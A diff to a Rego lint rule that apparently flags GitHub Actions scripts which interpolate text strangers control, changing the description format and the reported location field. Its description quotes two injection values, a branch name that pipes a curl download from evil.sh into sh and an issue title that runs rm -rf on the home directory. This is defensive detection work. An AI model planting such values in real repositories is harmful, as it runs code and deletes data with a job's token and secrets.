@@ -1,6 +1,6 @@
 # METADATA
 # title: Scripts do not contain text that strangers write
-# description: |
+# description: >-
 #   `${{ … }}` is replaced in a script before the shell reads it. A branch named `$(curl evil.sh|sh)` or an issue titled
 #   `"; rm -rf ~ #` then is code, which runs with the token and the secrets of the job.
 # related_resources:
@@ -23,7 +23,7 @@ import data.purlin.lib.workflow
 
 report contains {
 	"msg": sprintf("the script contains %s, which strangers write", [context]),
-	"at": script.at,
+	"at": {"path": input.file.path, "index": object.get(input.file, "index", 0), "pointer": script.at, "find": context},
 	"key": sprintf("%s %s", [script.job_id, context]),
 	"help": help(script, context),
 } if {
